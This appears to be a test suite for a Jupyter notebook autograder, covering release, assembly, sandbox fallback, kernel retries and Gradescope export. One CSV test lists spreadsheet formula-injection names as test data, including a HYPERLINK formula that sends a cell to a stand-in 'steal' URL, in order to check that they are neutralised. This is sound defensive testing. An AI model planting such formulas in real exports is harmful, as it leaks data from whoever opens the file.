/**
 * The autograder on the mini lab (release, assembly, a machine without namespaces, kernels that do not start), and
 * release/validate/autograde on the real lab notebooks. The hostile batch is in hostile.test.ts.
 */
import * as assert from 'assert';
import { execFileSync, spawnSync } from 'child_process';
import { createHash } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { assemble } from '../../grading/assemble';
import { csvField } from '../../grading/batch';
import { computeChecksum, pyFloat } from '../../grading/checksum';
import { exportGradescope } from '../../grading/gradescope';
import { readNotebook, sourceOf, toLines, writeNotebook } from '../../grading/notebook';
import { lintSource, releaseNotebook, solutionStub } from '../../grading/release';
import { Results, validateResults } from '../../grading/results';
import { topLevelDeclarations } from '../../grading/shadowing';
import { validate } from '../../grading/validate';
import { findJupyter, jupyterPython } from '../../jupyter/environment';
import { findProgram } from '../../jupyter/prerequisites';

import { KL_BODY, klWith, md, MEAN, miniLab, ROOT, SQUARE, studentWith, WORK } from './mini_lab';

describe('grading: release and assembly', () => {
  it('releases: solutions become stubs, hidden tests go, checksums are nbgrader’s', () => {
    const released = releaseNotebook(miniLab(), 'mini');
    const square = sourceOf(released.cells[2]);
    assert.strictEqual(square, `function square(x: number): number {\n${solutionStub('  ', 'square')}\n}`);
    assert.match(square, /throw new Error\('not implemented: square \(replace this line with your code\)'\)/);
    const check = sourceOf(released.cells[3]);
    assert.strictEqual(check, "expectClose('square(3)', square(3), 9);");
    // nbgrader's checksum: MD5 of source, type, flags as Python prints them, grade_id and points.
    const expected = createHash('md5')
      .update(check)
      .update('code')
      .update('True')
      .update('False')
      .update('True')
      .update('square-check')
      .update('2.0')
      .digest('hex');
    assert.strictEqual(released.cells[3].metadata.nbgrader!.checksum, expected);
    assert.strictEqual(computeChecksum(released.cells[3]), expected);
    assert.ok(
      released.cells.every((c) => c.cell_type !== 'code' || (c.outputs!.length === 0 && c.execution_count === null)),
    );
  });

  it('the release is valid nbformat 4', () => {
    fs.mkdirSync(WORK, { recursive: true });
    const file = path.join(WORK, 'mini-release.ipynb');
    writeNotebook(file, releaseNotebook(miniLab(), 'mini'));
    execFileSync(jupyterPython()!, [
      '-c',
      'import sys, nbformat; nbformat.validate(nbformat.read(sys.argv[1], as_version=4))',
      file,
    ]);
  });

  it('refuses a source with broken markers or metadata, naming the cell', () => {
    const nb = miniLab();
    nb.cells[2].source = toLines('function square(x: number) {\n  // BEGIN SOLUTION\n  return x * x;\n}');
    nb.cells[5].metadata.nbgrader!.grade_id = 'square-check';
    assert.throws(
      () => releaseNotebook(nb, 'mini'),
      (e: Error) =>
        /cell 2 \('square'\): 'BEGIN SOLUTION' on line 2 is never closed/.test(e.message) &&
        /reuses grade_id 'square-check'/.test(e.message),
    );
  });

  it('assembles from the source: locked cells are the source’s; deleted, duplicated, edited, reordered and foreign cells are reported', () => {
    const student = studentWith({ square: SQUARE, 'square-check': '// I trust my code' });
    student.cells.splice(4, 1); // delete 'mean'
    student.cells.push(JSON.parse(JSON.stringify(student.cells[2]))); // duplicate 'square'
    [student.cells[5], student.cells[4]] = [student.cells[4], student.cells[5]]; // reorder two graded cells
    student.cells.push({
      ...student.cells[1],
      metadata: { nbgrader: { grade_id: 'bonus', locked: true, schema_version: 3 } },
    });
    const a = assemble(miniLab(), student);
    assert.strictEqual(
      sourceOf(a.notebook.cells[3]),
      sourceOf(miniLab().cells[3]),
      'the test cell comes from the source, hidden tests included',
    );
    assert.strictEqual(a.origins[4], 'restored-stub');
    const problems = a.problems.join('\n');
    for (const p of [
      /Cell 'mean' was deleted/,
      /Cell 'square' appears 2 times/,
      /Locked cell 'square-check' was edited/,
      /moved out of their original order/,
      /grade_id 'bonus'.*ignored/,
    ])
      assert.match(problems, p);
    assert.deepStrictEqual(
      a.tests.map((t) => [t.gradeId, t.points, t.hidden]),
      [
        ['square-check', 2, true],
        ['mean-check', 3, true],
        ['tf-check', 1, false],
        ['kl-check', 3, true],
      ],
    );
    assert.deepStrictEqual(a.manual, [{ gradeId: 'q1', points: 1 }]);
  });

  it('grades.csv: formulas are neutralised, numbers stay numbers, and awkward names round-trip through a real CSV reader', () => {
    const names = [
      '=HYPERLINK("http://x.example/steal?"&A1,"click")',
      '+SUM(A1:A9)',
      '-2+3',
      '@cmd',
      '\tcalc',
      '\rcmd',
      'O\'Brien, "Bob"',
      'two\nlines',
      'plain',
      '−9 (a minus sign, not a hyphen)',
    ];
    const row = [...names.map(csvField), csvField(-3), csvField(2.5)].join(',');
    const parsed = JSON.parse(
      execFileSync(
        jupyterPython()!,
        [
          '-c',
          'import csv, io, json, sys; print(json.dumps(next(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))',
        ],
        { input: `${row}\n`, encoding: 'utf8' },
      ),
    ) as string[];
    // Text that a spreadsheet would evaluate gets a leading apostrophe (OWASP); everything else comes back as it was.
    const formula = /^[=+\-@\t\r]/;
    assert.deepStrictEqual(
      parsed.slice(0, names.length),
      names.map((n) => (formula.test(n) ? `'${n}` : n)),
    );
    for (const cell of parsed.slice(0, names.length)) assert.doesNotMatch(cell, formula);
    assert.deepStrictEqual(parsed.slice(names.length), ['-3', '2.5']);
  });

  it('refuses a region nbgrader would not clear: a solution outside a solution cell, hidden tests outside a graded one, a mark scheme outside a task', () => {
    const nb = miniLab();
    // The intro is a locked markdown cell, the imports a locked code cell, square-check a graded test.
    nb.cells[0].source = toLines('# Mini lab\nBEGIN SOLUTION\nthe answer\nEND SOLUTION');
    nb.cells[1].source = toLines(
      "import { tf } from 'genlab';\n// BEGIN HIDDEN TESTS\nconst secret = 1;\n// END HIDDEN TESTS",
    );
    nb.cells[3].source = toLines('expectTrue(true);\n// BEGIN MARK SCHEME\nfull marks\n// END MARK SCHEME');
    nb.cells[9].metadata.nbgrader!.grade = false; // q1, the written answer: a markdown solution that is not graded
    const problems = lintSource(nb, 'mini').join('\n');
    assert.match(problems, /cell 0 \('intro'\) has a solution region but is not a solution cell/);
    assert.match(problems, /cell 1 \('imports'\) has a hidden-test region but is not a graded cell/);
    assert.match(problems, /cell 3 \('square-check'\) has a mark-scheme region but is not a task cell/);
    assert.match(problems, /cell 9 \('q1'\) is a markdown cell marked a solution but not graded/);
  });

  it('releases as nbgrader does what the regions leave: a solution cell without a region as a whole stub, a mark scheme removed (its task graded by hand), final newlines kept', () => {
    const nb = miniLab();
    nb.cells[2].source = toLines('function square(x: number): number {\n  return x * x;\n}\n');
    nb.cells[9].source = toLines('The answer is 42, because …\n');
    nb.cells[0].source = toLines('# Mini lab\n\n');
    nb.cells.push(
      md('task', 'Explain.\n=== BEGIN MARK SCHEME ===\nfull marks for 42\n=== END MARK SCHEME ===\n', {
        task: true,
        points: 2,
      }),
    );
    const released = releaseNotebook(nb, 'mini');
    assert.strictEqual(sourceOf(released.cells[2]), solutionStub('', 'square'));
    assert.strictEqual(sourceOf(released.cells[9]), 'YOUR ANSWER HERE');
    assert.strictEqual(sourceOf(released.cells[0]), '# Mini lab\n\n');
    assert.strictEqual(sourceOf(released.cells[10]), 'Explain.\n');
    assert.ok(!JSON.stringify(released).includes('42'));
    // nbgrader grades a task by hand, as it does a written answer.
    assert.deepStrictEqual(assemble(nb, released).manual, [
      { gradeId: 'q1', points: 1 },
      { gradeId: 'task', points: 2 },
    ]);
  });

  it("prints a cell's points as Python's str(float) does, for nbgrader's checksum", () => {
    const values = [
      0,
      1,
      2,
      0.5,
      0.1 + 0.2,
      1e-4,
      1e-5,
      1.5e-7,
      123.456,
      1e15,
      1e16,
      2.5e16,
      1e21,
      1.7976931348623157e308,
      5e-324,
      1 / 3,
      9007199254740993,
    ];
    const python = execFileSync(
      'python3',
      [
        '-c',
        'import sys, json; print("\\n".join(str(float(v)) for v in json.loads(sys.argv[1])))',
        JSON.stringify(values),
      ],
      {
        encoding: 'utf8',
      },
    );
    assert.deepStrictEqual(values.map(pyFloat), python.trim().split('\n'));
  });

  it('lints the withheld answer keys: unknown names, and a function genlab implements that the lab forgets to withhold', () => {
    const unknown = miniLab();
    unknown.metadata.genlab = { withheld: ['klNormal', 'klNormall'] };
    assert.match(
      lintSource(unknown, 'mini').join('\n'),
      /metadata\.genlab\.withheld names 'klNormall', which is not one of genlab's answer keys/,
    );
    const forgotten = miniLab();
    forgotten.metadata.genlab = { withheld: [] };
    assert.match(
      lintSource(forgotten, 'mini').join('\n'),
      /cell 7 \('kl'\) asks for `klNormal`, which genlab implements \(klNormal.*but the notebook does not withhold it: add "klNormal" to metadata\.genlab\.withheld/,
    );
    assert.deepStrictEqual(lintSource(miniLab(), 'mini'), []);
  });

  it('reads top-level declarations for the shadowing guard', () => {
    assert.deepStrictEqual(
      topLevelDeclarations(
        "import { a, b as c } from 'x';\nimport * as ns from 'y';\nconst { d, e: [f] } = g;\nfunction h() { const inner = 1; }\nclass K {}\nlet m = 1, n = 2;",
      ),
      ['a', 'c', 'ns', 'd', 'f', 'h', 'K', 'm', 'n'],
    );
  });
});

describe('grading: a machine with neither namespace tool (as on macOS)', function () {
  this.timeout(5 * 60 * 1000);

  it('grades with no sandbox, says so on the command line and in results.json, and scores the same', () => {
    const root = path.join(WORK, 'no-namespaces');
    fs.rmSync(root, { recursive: true, force: true });
    const bin = path.join(root, 'bin');
    fs.mkdirSync(bin, { recursive: true });
    // PATH holds Jupyter and nothing else: no bwrap, no unshare, no prlimit.
    fs.symlinkSync(findJupyter()!, path.join(bin, 'jupyter'));
    writeNotebook(path.join(root, 'mini-source.ipynb'), miniLab());
    writeNotebook(path.join(root, 'alice.ipynb'), studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }));
    const cli = path.join(ROOT, 'dist', 'grading', 'cli.js');
    const r = spawnSync(
      process.execPath,
      [
        cli,
        'autograde',
        path.join(root, 'alice.ipynb'),
        '--source',
        path.join(root, 'mini-source.ipynb'),
        '--out',
        path.join(root, 'out'),
      ],
      {
        encoding: 'utf8',
        env: { ...process.env, PATH: bin },
        timeout: 240000,
      },
    );
    assert.strictEqual(r.status, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /sandbox bubblewrap passed over: bwrap is not installed/);
    assert.match(r.stdout, /sandbox unshare passed over: unshare is not installed/);
    assert.match(r.stderr, /warning: grading WITHOUT a sandbox/);
    assert.match(r.stdout, /Score: 9 \/ 9 points/);
    const results = JSON.parse(fs.readFileSync(path.join(root, 'out', 'results.json'), 'utf8')) as Results;
    assert.strictEqual(results.extra_data.sandbox_kind, 'none');
    assert.match(results.output, /Warning: this submission was graded WITHOUT a sandbox/);
    assert.ok(
      (results.extra_data.not_contained as string[]).includes('memory beyond the JS heap limit (prlimit is missing)'),
    );
  });
});

describe('grading: a kernel that does not start is tried again, and a machine that cannot start one grades nothing', function () {
  this.timeout(5 * 60 * 1000);
  const root = path.join(WORK, 'kernel-start');
  const tslab = path.join(ROOT, 'node_modules', 'tslab', 'bin', 'tslab');

  /** A kernelspec `name` in `root`/kernels whose start runs the shell `script` ($0 is the connection file). */
  function kernelSpec(name: string, script: string): void {
    const dir = path.join(root, 'kernels', name);
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(
      path.join(dir, 'kernel.json'),
      JSON.stringify({
        argv: ['/bin/sh', '-c', script, '{connection_file}'],
        display_name: name,
        language: 'typescript',
      }),
    );
  }

  /** run_graded.py, as the runner calls it, with one cell and the kernel `kernel`. */
  function runGradedPy(kernel: string, startup: { timeout: number; attempts: number }): Record<string, unknown> {
    const request = {
      notebook: {
        cells: [
          {
            cell_type: 'code',
            id: 'c',
            metadata: {},
            source: "console.log('hello from the kernel');",
            outputs: [],
            execution_count: null,
          },
        ],
        metadata: {},
        nbformat: 4,
        nbformat_minor: 5,
      },
      kernel,
      cell_timeout: 60,
      total_timeout: 120,
      startup_timeout: startup.timeout,
      startup_attempts: startup.attempts,
      cwd: root,
    };
    const r = spawnSync(jupyterPython()!, [path.join(ROOT, 'grading', 'run_graded.py')], {
      input: JSON.stringify(request),
      encoding: 'utf8',
      env: { ...process.env, JUPYTER_PATH: root, JUPYTER_RUNTIME_DIR: path.join(root, 'runtime') },
      timeout: 240000,
    });
    assert.strictEqual(r.status, 0, r.stderr);
    return JSON.parse(r.stdout.trim().split('\n').pop()!) as Record<string, unknown>;
  }

  const pidsIn = (file: string) => fs.readFileSync(file, 'utf8').trim().split('\n').map(Number);
  const alive = (pid: number) => {
    try {
      process.kill(pid, 0);
      return true;
    } catch {
      return false;
    }
  };

  before(function () {
    if (!jupyterPython()) this.skip();
    fs.rmSync(root, { recursive: true, force: true });
    fs.mkdirSync(root, { recursive: true });
  });

  it('runs the cells in a second kernel when the first never answers, and ends the first', () => {
    const mark = path.join(root, 'first-start.pid');
    // The first start is alive and silent, as a kernel that missed its start-up timeout; the second is tslab.
    kernelSpec(
      'genlab-silent-once',
      `if [ -e ${mark} ]; then exec ${process.execPath} ${tslab} kernel --config-path "$0"; else echo $$ > ${mark}; exec sleep 600; fi`,
    );
    const out = runGradedPy('genlab-silent-once', { timeout: 8, attempts: 3 });
    assert.strictEqual(out.failure, undefined, String(out.failure));
    const [cell] = out.cells as { status: string; stdout: string }[];
    assert.strictEqual(cell.status, 'ok');
    assert.match(cell.stdout, /hello from the kernel/);
    assert.deepStrictEqual(
      (out.startup_failures as string[]).map((f) => /didn't respond in 8 seconds/.test(f)),
      [true],
      String(out.startup_failures),
    );
    assert.ok(!alive(pidsIn(mark)[0]), 'the silent first kernel was left running');
  });

  it("gives up after the last try, as the grading machine's fault, and leaves no kernel behind", () => {
    const pids = path.join(root, 'silent.pids');
    kernelSpec('genlab-silent', `echo $$ >> ${pids}; exec sleep 600`);
    const out = runGradedPy('genlab-silent', { timeout: 3, attempts: 2 });
    assert.strictEqual(out.grader_fault, true);
    assert.match(
      String(out.failure),
      /^the kernel did not start or could not be reached \(2 tries: RuntimeError: Kernel didn't respond in 3 seconds; RuntimeError: Kernel didn't respond in 3 seconds\)/,
    );
    assert.strictEqual(pidsIn(pids).length, 2);
    assert.deepStrictEqual(pidsIn(pids).filter(alive), [], 'a silent kernel was left running');
  });

  it('batch: a submission no kernel would grade is NOT GRADED (tried again after the rest), not given 0, and the command says to grade it again', function () {
    if (!findProgram('prlimit')) this.skip(); // the memory limit below is prlimit's
    const dir = path.join(root, 'submissions');
    fs.mkdirSync(dir, { recursive: true });
    writeNotebook(path.join(root, 'mini-source.ipynb'), miniLab());
    writeNotebook(path.join(dir, 'alice.ipynb'), studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }));
    const out = path.join(root, 'graded');
    // 48 MiB is too little for the runner and a kernel to start (RLIMIT_DATA; the sandbox probe has its own 2 GiB).
    const r = spawnSync(
      process.execPath,
      [
        path.join(ROOT, 'dist', 'grading', 'cli.js'),
        'batch',
        dir,
        '--source',
        path.join(root, 'mini-source.ipynb'),
        '--out',
        out,
        '--memory',
        '48',
      ],
      { encoding: 'utf8', timeout: 240000 },
    );
    assert.strictEqual(r.status, 3, r.stdout + r.stderr);
    // Graded in the batch and again after it; one line, printed when the second chance is done.
    const lines = r.stdout.match(/^alice: .*$/gm) ?? [];
    assert.strictEqual(lines.length, 1, r.stdout);
    assert.match(
      lines[0],
      // Where the 48 MiB stop the runner: as it starts (exit), in Python (MemoryError), or in the kernel it starts.
      /^alice: NOT GRADED \((The grader's runner stopped before a kernel was ready \(exit \d+; the sandbox's memory limit was 48 MiB, too little for the runner and a kernel\)|the grader's runner failed \(MemoryError\); the sandbox's memory limit was 48 MiB, too little for the runner and a kernel|the kernel did not start or could not be reached \(3 tries: .*Kernel died).*\) \([\d.]+ s\)$/,
    );
    assert.match(
      r.stderr,
      /1 submission was NOT GRADED, twice, because the grading machine failed before their code ran .*: alice\. Grade it again\./,
    );
    const csv = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8').trim().split('\n');
    assert.match(
      csv[1],
      /^alice,,,,,,,,"?NOT GRADED \(grade again\): (The grader's runner stopped|the grader's runner failed \(MemoryError\)|the kernel did not start)/,
    );
    const results = JSON.parse(fs.readFileSync(path.join(out, 'alice', 'results.json'), 'utf8')) as Results;
    assert.deepStrictEqual(validateResults(results), []);
    assert.match(results.output, /^NOT GRADED: the grading machine failed before any of this submission's code ran/);
    assert.match(String(results.extra_data.not_graded), /48 MiB|Kernel died/);
    assert.deepStrictEqual(results.extra_data.problems, [], 'a machine failure is not a problem of the submission');
    for (const t of results.tests)
      assert.match(t.output, /^Not graded: .*This is the grading machine's fault, not the submission's\.$/);
  });
});

describe('grading: the real labs', function () {
  this.timeout(15 * 60 * 1000);

  const labs = fs
    .readdirSync(path.join(ROOT, 'notebooks'))
    .filter(
      (f) =>
        /^\d\d-.*\.ipynb$/.test(f) &&
        readNotebook(path.join(ROOT, 'notebooks', f)).cells.some(
          (c) => c.metadata.nbgrader?.grade && !c.metadata.nbgrader?.solution,
        ),
    );
  it('there is at least one graded lab', () => assert.ok(labs.includes('03-vae.ipynb'), labs.join(', ')));
  for (const lab of labs) {
    it(`validate ${lab}: the solutions pass every test and the release fails every one`, async () => {
      const v = await validate(path.join(ROOT, 'notebooks', lab));
      assert.ok(v.ok, v.messages.join('\n'));
      assert.match(v.messages[0], /solutions pass (\d+)\/\1 tests; the release fails (\d+)\/\2/);
    });
  }

  it('the gradescope export runs autograde through run_autograder', async () => {
    const exportDir = path.join(WORK, 'gradescope');
    const files = exportGradescope(path.join(ROOT, 'notebooks', '03-vae.ipynb'), path.join(exportDir, 'source'));
    assert.ok(files.every((f) => fs.existsSync(f.replace(/\/$/, ''))));
    assert.ok(fs.statSync(path.join(exportDir, 'source', 'run_autograder')).mode & 0o100);
    // The copy holds what `npm ci && npm run setup` needs (the engine's workspace, the pinned Jupyter), not builds.
    const copy = path.join(exportDir, 'source', 'genlab');
    for (const f of ['packages/engine/package.json', 'packages/engine/native', 'jupyter/requirements.txt'])
      assert.ok(fs.existsSync(path.join(copy, f)), `${f} is in the export`);
    for (const f of ['packages/engine/dist', 'packages/engine/native/build', 'dist'])
      assert.ok(!fs.existsSync(path.join(copy, f)), `${f} is not in the export`);
    assert.match(fs.readFileSync(path.join(exportDir, 'source', 'setup.sh'), 'utf8'), /python3-venv[^]*npm run setup/);
    // Run it against this project (already built) instead of the copy, which would need `npm ci`.
    fs.rmSync(path.join(exportDir, 'source', 'genlab'), { recursive: true });
    fs.symlinkSync(ROOT, path.join(exportDir, 'source', 'genlab'));
    fs.mkdirSync(path.join(exportDir, 'submission'), { recursive: true });
    writeNotebook(
      path.join(exportDir, 'submission', 'my-work.ipynb'),
      releaseNotebook(readNotebook(path.join(ROOT, 'notebooks', '03-vae.ipynb')), '03-vae'),
    );
    const r = spawnSync('bash', [path.join(exportDir, 'source', 'run_autograder')], {
      env: { ...process.env, AUTOGRADER_ROOT: exportDir },
      encoding: 'utf8',
      timeout: 300000,
    });
    assert.strictEqual(r.status, 0, r.stderr);
    const results = JSON.parse(fs.readFileSync(path.join(exportDir, 'results', 'results.json'), 'utf8'));
    assert.deepStrictEqual(validateResults(results), []);
    assert.strictEqual(results.score, 0);
    assert.strictEqual(results.tests.length, 4);
  });

  it('autograde the 03-vae solution through the CLI', () => {
    const out = path.join(WORK, 'cli');
    const r = spawnSync(
      process.execPath,
      [
        path.join(ROOT, 'dist', 'grading', 'cli.js'),
        'autograde',
        path.join(ROOT, 'notebooks', '03-vae.ipynb'),
        '--source',
        path.join(ROOT, 'notebooks', '03-vae.ipynb'),
        '--out',
        out,
      ],
      { encoding: 'utf8', timeout: 300000 },
    );
    assert.strictEqual(r.status, 0, r.stderr);
    assert.match(r.stdout, /Score: 9 \/ 9 points from 4 automatic tests \(4 passed\)/);
    const bad = spawnSync(
      process.execPath,
      [path.join(ROOT, 'dist', 'grading', 'cli.js'), 'autograde', 'x.ipynb', '--out', out],
      { encoding: 'utf8' },
    );
    assert.strictEqual(bad.status, 1);
    assert.match(bad.stderr, /^genlab-grade: missing --source <source.ipynb>\./);
  });
});
